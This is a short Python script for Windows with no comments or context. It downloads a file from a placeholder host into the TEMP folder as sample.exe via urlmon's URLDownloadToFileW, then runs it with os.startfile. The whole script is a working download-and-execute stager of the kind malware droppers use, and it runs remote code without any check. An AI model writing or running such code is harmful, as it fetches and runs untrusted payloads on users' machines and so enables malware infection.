import ctypes
import os

place = os.path.join(os.environ["TEMP"], "sample.exe")
ctypes.windll.urlmon.URLDownloadToFileW(None, "https://files.example.invalid/tool", place, 0, None)
os.startfile(place)
